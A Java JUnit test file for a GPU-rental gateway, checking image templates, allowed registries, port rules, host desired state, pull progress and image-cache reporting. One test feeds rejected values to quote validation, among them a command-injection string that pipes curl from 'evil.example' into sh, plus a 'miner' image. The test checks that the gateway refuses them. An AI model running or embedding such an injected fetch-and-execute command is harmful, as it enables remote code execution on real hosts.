package io.gpurental.gateway.fleet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gpurental.gateway.testing.ApiClient;
import io.gpurental.gateway.testing.Eventually;
import io.gpurental.gateway.testing.FakeAgent;
import io.gpurental.gateway.testing.GatewayTest;
import io.gpurental.gateway.testing.SignedIn;
import io.gpurental.gateway.testing.TestGateway;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.sqlclient.Row;
import java.net.http.HttpResponse;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Fleet III, images: the operator's templates (pinned by digest, audited) and allowed registries;
 * the image and ports a quote and a reservation take; what the desired state asks of the host
 * (image, ports, limits, pre-pull, cache limit); the host's pull progress, published ports and
 * image cache as they reach the reservation and the catalog.
 */
@GatewayTest(settings = "GATEWAY_RESERVATIONS_SCHEDULER_INTERVAL_MS=200")
class ImagesTest {
  private static final String DIGEST = "@sha256:" + "ab12".repeat(16);

  @Test
  void theOperatorPublishesUpdatesAndRetiresTemplatesEachAudited(TestGateway node,
      @SignedIn("operator") ApiClient operator, @SignedIn("kim") ApiClient renter) {
    HttpResponse<String> unpinned = operator.post("/api/v1/operator/images", template("Trainer",
        "ghcr.io/acme/trainer:latest"));
    assertEquals(400, unpinned.statusCode(), unpinned.body());
    assertEquals("#/ref", pointer(unpinned));
    HttpResponse<String> ssh = operator.post("/api/v1/operator/images", template("Trainer",
        "ghcr.io/acme/trainer" + DIGEST).put("default_ports", new JsonArray().add(22)));
    assertEquals(400, ssh.statusCode(), ssh.body());
    assertEquals("#/default_ports/0", pointer(ssh));
    HttpResponse<String> extra = operator.post("/api/v1/operator/images", template("Trainer",
        "ghcr.io/acme/trainer" + DIGEST).put("shell", "sh"));
    assertEquals(400, extra.statusCode(), "additionalProperties: false");

    FakeAgent agent = AgentInstancesTest.activeHost(node, operator);
    long version = agent.desiredStateNow().getLong("version");
    HttpResponse<String> created = operator.post("/api/v1/operator/images", template("Trainer",
        "ghcr.io/acme/trainer:1.2" + DIGEST).put("default_ports", new JsonArray().add(6006))
        .put("min_driver_version", "550.54").put("min_cuda_version", "12.4"));
    assertEquals(201, created.statusCode(), created.body());
    JsonObject trainer = new JsonObject(created.body());
    String id = trainer.getString("id");
    assertTrue(id.startsWith("img_"), id);
    assertEquals(new JsonArray().add(6006), trainer.getJsonArray("default_ports"));
    JsonObject desired = agent.desiredStateNow();
    assertTrue(desired.getLong("version") > version, "a new template is a new desired state: pre-pull it");
    assertTrue(desired.getJsonArray("pre_pull").contains(trainer.getString("ref")), desired.encode());
    assertEquals(409, operator.post("/api/v1/operator/images", template("trainer", "ghcr.io/acme/x" + DIGEST))
        .statusCode(), "a live name once");
    assertTrue(names(renter.json("/api/v1/images")).contains("Trainer"));

    HttpResponse<String> updated = operator.put("/api/v1/operator/images/" + id, template("Trainer 1.3",
        "ghcr.io/acme/trainer:1.3" + DIGEST).put("is_default", true));
    assertEquals(200, updated.statusCode(), updated.body());
    JsonObject images = renter.json("/api/v1/images");
    assertEquals(id, images.getJsonArray("data").getJsonObject(0).getString("id"), "the default first");
    assertEquals(1, images.getJsonArray("data").stream().map(JsonObject.class::cast)
        .filter(t -> t.getBoolean("is_default")).count(), "one default");

    // the demo's default again (the other tests of this class rely on it)
    JsonObject pytorch = template(renter, "img_demo_pytorch");
    HttpResponse<String> back = operator.put("/api/v1/operator/images/img_demo_pytorch", template(
        pytorch.getString("name"), pytorch.getString("ref")).put("description", pytorch.getString("description"))
        .put("min_driver_version", pytorch.getString("min_driver_version"))
        .put("min_cuda_version", pytorch.getString("min_cuda_version")).put("is_default", true));
    assertEquals(200, back.statusCode(), back.body());
    assertFalse(new JsonObject(operator.get("/api/v1/operator/images").body()).getJsonArray("data").stream()
        .map(JsonObject.class::cast).filter(t -> id.equals(t.getString("id"))).findFirst().orElseThrow()
        .getBoolean("is_default"), "one default at a time");

    HttpResponse<String> retired = operator.delete("/api/v1/operator/images/" + id);
    assertEquals(200, retired.statusCode(), retired.body());
    assertNotNull(new JsonObject(retired.body()).getString("retired_at"));
    assertFalse(names(renter.json("/api/v1/images")).contains("Trainer 1.3"), "retired: not offered");
    assertTrue(names(operator.json("/api/v1/operator/images?include_retired=true")).contains("Trainer 1.3"));
    assertEquals(409, operator.put("/api/v1/operator/images/" + id, template("Again", "ghcr.io/a/b" + DIGEST))
        .statusCode());
    assertEquals(404, operator.delete("/api/v1/operator/images/img_nosuchimage").statusCode());

    assertEquals(List.of("image.created", "image.updated", "image.retired"), audit(node, id));
  }

  @Test
  void quotesAndReservationsTakeATemplateOrACustomImageFromAnAllowedRegistryAndNothingElse(TestGateway node,
      @SignedIn("operator") ApiClient operator, @SignedIn("lea") ApiClient renter) {
    HttpResponse<String> badRegistry = operator.put("/api/v1/operator/image-settings", new JsonObject()
        .put("allowed_registries", new JsonArray().add("ghcr.io/acme").add("not a registry")));
    assertEquals(400, badRegistry.statusCode(), badRegistry.body());
    assertEquals("#/allowed_registries/1", pointer(badRegistry));
    HttpResponse<String> set = operator.put("/api/v1/operator/image-settings", new JsonObject()
        .put("allowed_registries", new JsonArray().add("ghcr.io/acme").add("registry.example:5000")));
    assertEquals(200, set.statusCode(), set.body());
    assertEquals(List.of("ghcr.io/acme", "registry.example:5000"),
        renter.json("/api/v1/images").getJsonArray("allowed_registries").getList());
    assertEquals(1, audit(node, "image_settings").size());

    FakeAgent agent = AgentInstancesTest.activeHost(node, operator);
    String offerId = operator.json("/api/v1/operator/hosts/" + agent.hostId()).getJsonArray("offers").getString(0);
    JsonObject jupyter = template(renter, "img_demo_jupyter");

    JsonObject byTemplate = quote(renter, offerId, "img_demo_jupyter", null);
    assertEquals(new JsonObject().put("template_id", "img_demo_jupyter").put("ref", jupyter.getString("ref"))
        .put("ports", new JsonArray().add(8888)), byTemplate.getJsonObject("image"));
    JsonObject byDefault = quote(renter, offerId, null, null);
    assertEquals("img_demo_pytorch", byDefault.getJsonObject("image").getString("template_id"), "the default template");
    JsonObject custom = quote(renter, offerId, "ghcr.io/acme/trainer:1.2", new JsonArray().add(6006));
    assertEquals(new JsonObject().putNull("template_id").put("ref", "ghcr.io/acme/trainer:1.2")
        .put("ports", new JsonArray().add(6006)), custom.getJsonObject("image"));
    quote(renter, offerId, "registry.example:5000/team/img@sha256:" + "0".repeat(64), null);

    for (String refused : List.of("docker.io/evil/miner:latest", "ghcr.io/acmecorp/x:1", "ubuntu",
        "ghcr.io/acme/x:1; curl evil.example | sh", "img_nosuchtemplate", "GHCR.IO/acme/UPPER",
        "ghcr.io/acme/trainer", "registry.example:5000/team/img")) {
      HttpResponse<String> answer = renter.post("/api/v1/quotes", quoteRequest(offerId).put("image", refused), null);
      assertEquals(400, answer.statusCode(), refused + ": " + answer.body());
      assertEquals("#/image", pointer(answer), refused);
    }
    HttpResponse<String> rule = renter.post("/api/v1/quotes", quoteRequest(offerId).put("image", "docker.io/a/b:1"),
        null);
    assertTrue(rule.body().contains("allowed registry: ghcr.io/acme, registry.example:5000"), rule.body());
    HttpResponse<String> ssh = renter.post("/api/v1/quotes", quoteRequest(offerId)
        .put("ports", new JsonArray().add(8888).add(22)), null);
    assertEquals(400, ssh.statusCode(), ssh.body());
    assertEquals("#/ports/1", pointer(ssh));
    for (JsonArray ports : List.of(new JsonArray().add(0), new JsonArray().add(70000),
        new JsonArray().add(1).add(2).add(3).add(4).add(5).add(6).add(7).add(8).add(9),
        new JsonArray().add(8888).add(8888))) {
      HttpResponse<String> answer = renter.post("/api/v1/quotes", quoteRequest(offerId).put("ports", ports), null);
      assertEquals(400, answer.statusCode(), ports + ": " + answer.body());
    }

    HttpResponse<String> reserved = renter.post("/api/v1/reservations", ApiClient.reservationRequest(offerId, 1, null,
        1, "checkout").put("image", "docker.io/evil/miner:latest"));
    assertEquals(400, reserved.statusCode(), reserved.body());
    assertEquals("#/image", pointer(reserved));
    assertEquals(0L, node.sql("SELECT count(*) FROM reservations WHERE offer_id = '" + offerId + "'").iterator().next()
        .getLong(0), "nothing booked");

    // a quote's image holds for the reservation made from it, unless the reservation picks another
    JsonObject fromQuote = renter.reserve(custom.getString("id"), "checkout");
    assertEquals("ghcr.io/acme/trainer:1.2", fromQuote.getJsonObject("image").getString("ref"));
    Row row = node.sql("SELECT image_template_id, image_ref, image_ports FROM reservations WHERE id = '"
        + fromQuote.getString("id") + "'").iterator().next();
    assertNull(row.getString("image_template_id"));
    assertEquals("ghcr.io/acme/trainer:1.2", row.getString("image_ref"));
    assertEquals(List.of(6006), List.of(row.getArrayOfIntegers("image_ports")));
  }

  @Test
  void theHostIsAskedForTheImagePortsAndLimitsAndItsPullPortsAndCacheReachTheRenter(TestGateway node,
      @SignedIn("operator") ApiClient operator, @SignedIn("max") ApiClient renter) {
    FakeAgent agent = AgentInstancesTest.activeHost(node, operator);
    String offerId = operator.json("/api/v1/operator/hosts/" + agent.hostId()).getJsonArray("offers").getString(0);
    JsonObject jupyter = template(renter, "img_demo_jupyter");
    renter.saveCard("4242424242424242");
    HttpResponse<String> created = renter.post("/api/v1/reservations", ApiClient.reservationRequest(offerId, 2, null,
        2, "saved_card").put("image", "img_demo_jupyter").put("ports", new JsonArray().add(8888).add(6006)), "k-1");
    assertEquals(201, created.statusCode(), created.body());
    String id = new JsonObject(created.body()).getString("id");
    renter.awaitStatus(id, "provisioning");

    JsonObject desired = Eventually.eventually("the instance in the desired state", agent::desiredStateNow,
        state -> state.getJsonArray("instances").size() == 1);
    JsonObject instance = desired.getJsonArray("instances").getJsonObject(0);
    assertEquals(new JsonObject().put("ref", jupyter.getString("ref")).put("ports", new JsonArray().add(8888).add(6006)),
        instance.getJsonObject("image"));
    // the fake host: 64 cores, 512 GB RAM, 3840 GB disk, 4 GPUs; two GPUs are half of it
    assertEquals(new JsonObject().put("cpus", 32).put("memory_mib", 262144).put("disk_gb", 1920).put("pids", 8192)
        .put("shm_mib", 32768), instance.getJsonObject("limits"));
    assertTrue(desired.getJsonArray("pre_pull").contains(jupyter.getString("ref")), desired.encode());
    assertEquals(4, desired.getJsonArray("pre_pull").size(), "every live template: " + desired.encode());
    assertEquals(200, desired.getInteger("image_cache_limit_gb"));
    String user = instance.getString("user");

    assertEquals(204, agent.report(id, new JsonObject().put("state", "preparing")).statusCode());
    HttpResponse<String> noProgress = agent.report(id, new JsonObject().put("state", "pulling"));
    assertEquals(400, noProgress.statusCode(), noProgress.body());
    assertEquals(204, agent.report(id, pulling(0, 4_000_000_000L)).statusCode());
    assertEquals(204, agent.report(id, pulling(2_100_000_000L, 4_000_000_000L)).statusCode());
    assertEquals(204, agent.report(id, pulling(2_150_000_000L, 4_000_000_000L)).statusCode());
    assertEquals(204, agent.report(id, pulling(3_000_000_000L, null)).statusCode());
    List<String> pulls = renter.json("/api/v1/reservations/" + id).getJsonArray("events").stream()
        .map(JsonObject.class::cast).map(e -> e.getString("cause")).filter(c -> c.startsWith("pulling")).toList();
    assertEquals(List.of("pulling the image 0% (0.0 MB of 4000.0 MB)", "pulling the image 50% (2100.0 MB of 4000.0 MB)",
        "pulling the image, 2 GiB (3000.0 MB)"), pulls, "one event per step");
    Row pull = node.sql("SELECT state, pull_bytes_done, pull_bytes_total FROM instances WHERE reservation_id = '" + id
        + "'").iterator().next();
    assertEquals("pulling", pull.getString("state"));
    assertEquals(3_000_000_000L, pull.getLong("pull_bytes_done"));

    JsonObject running = FakeAgent.running(user, 22017).put("ports", new JsonArray()
        .add(new JsonObject().put("container_port", 8888).put("host_port", 30017))
        .add(new JsonObject().put("container_port", 6006).put("host_port", 30018)));
    assertEquals(204, agent.report(id, running).statusCode());
    JsonObject reservation = renter.awaitStatus(id, "running");
    assertEquals(new JsonArray()
        .add(new JsonObject().put("container_port", 8888).put("host_port", 30017).put("address", "203.0.113.7:30017"))
        .add(new JsonObject().put("container_port", 6006).put("host_port", 30018).put("address", "203.0.113.7:30018")),
        reservation.getJsonArray("ports"));
    assertEquals("img_demo_jupyter", reservation.getJsonObject("image").getString("template_id"));
    assertEquals(409, agent.report(id, pulling(1, 2L)).statusCode(), "a running instance does not pull again");
    assertEquals(2, node.sql("SELECT jsonb_array_length(published_ports) FROM reservations WHERE id = '" + id + "'")
        .iterator().next().getInteger(0));

    // the host's image cache, from its heartbeat, on the offer: per template, cached or not
    JsonObject heartbeat = new JsonObject().put("agent_version", "0.2.0").put("telemetry", FakeAgent.telemetry(3000, 40))
        .put("images", new JsonArray().add(new JsonObject().put("ref", jupyter.getString("ref"))
            .put("digest", jupyter.getString("ref").split("@")[1]).put("size_bytes", 4_000_000_000L)
            .put("last_used_at", "2026-12-01T10:00:00Z")));
    assertEquals(200, agent.send("POST", "/api/v1/agent/heartbeat", heartbeat).statusCode());
    cached(renter, offerId, List.of("img_demo_jupyter"));
    assertEquals(1L, node.sql("SELECT count(*) FROM host_images WHERE host_id = '" + agent.hostId() + "'")
        .iterator().next().getLong(0));
    assertEquals(200, agent.send("POST", "/api/v1/agent/heartbeat", heartbeat.copy().put("images", new JsonArray()))
        .statusCode());
    cached(renter, offerId, List.of());
    assertEquals(200, agent.heartbeat().statusCode(), "no images reported: the cache stays as it was");
    assertEquals(0L, node.sql("SELECT count(*) FROM host_images WHERE host_id = '" + agent.hostId() + "'")
        .iterator().next().getLong(0));
  }

  @Test
  void anImageThatCannotBePulledFailsTheReservation(TestGateway node, @SignedIn("operator") ApiClient operator,
      @SignedIn("nia") ApiClient renter) {
    FakeAgent agent = AgentInstancesTest.activeHost(node, operator);
    GuaranteeBookings.Booked booked = GuaranteeBookings.provisioning(node, agent, operator, renter);
    assertEquals(204, agent.report(booked.id(), pulling(10, 100L)).statusCode());
    assertEquals(204, agent.report(booked.id(), new JsonObject().put("state", "failed")
        .put("reason", "image_unavailable")).statusCode());
    JsonObject failed = renter.awaitStatus(booked.id(), "failed");
    assertTrue(failed.getJsonArray("events").encode().contains("image_unavailable"), failed.encode());
    assertEquals("image_unavailable", node.sql("SELECT reason FROM instances WHERE reservation_id = '" + booked.id()
        + "'").iterator().next().getString(0));
  }

  private static JsonObject pulling(long done, Long total) {
    return new JsonObject().put("state", "pulling")
        .put("pull", new JsonObject().put("bytes_done", done).put("bytes_total", total));
  }

  /** Waits (bounded) until the offer says its host has exactly these templates cached, of all four. */
  private static void cached(ApiClient renter, String offerId, List<String> expected) {
    Eventually.eventually("the offer's cached templates " + expected, () -> renter.json("/api/v1/offers/" + offerId)
        .getJsonArray("images"), images -> images.size() == 4 && images.stream().map(JsonObject.class::cast)
            .filter(t -> t.getBoolean("cached")).map(t -> t.getString("id")).toList().equals(expected));
  }

  private static JsonObject template(String name, String ref) {
    return new JsonObject().put("name", name).put("ref", ref).put("description", "a test image");
  }

  private static JsonObject template(ApiClient renter, String id) {
    return renter.json("/api/v1/images").getJsonArray("data").stream().map(JsonObject.class::cast)
        .filter(t -> id.equals(t.getString("id"))).findFirst().orElseThrow();
  }

  private static JsonObject quoteRequest(String offerId) {
    return new JsonObject().put("offer_id", offerId).put("gpu_count", 1).put("hours", 1);
  }

  private static JsonObject quote(ApiClient renter, String offerId, String image, JsonArray ports) {
    JsonObject body = quoteRequest(offerId);
    if (image != null) {
      body.put("image", image);
    }
    if (ports != null) {
      body.put("ports", ports);
    }
    HttpResponse<String> quoted = renter.post("/api/v1/quotes", body, null);
    assertEquals(201, quoted.statusCode(), quoted.body());
    return new JsonObject(quoted.body());
  }

  private static List<Object> names(JsonObject list) {
    return list.getJsonArray("data").stream().map(JsonObject.class::cast).map(t -> (Object) t.getString("name")).toList();
  }

  private static String pointer(HttpResponse<String> problem) {
    return new JsonObject(problem.body()).getJsonArray("errors").getJsonObject(0).getString("pointer");
  }

  private static List<String> audit(TestGateway node, String target) {
    List<String> actions = new java.util.ArrayList<>();
    node.sql("SELECT action FROM audit_log WHERE target = '" + target + "' ORDER BY at, id")
        .forEach(r -> actions.add(r.getString(0)));
    return actions;
  }
}
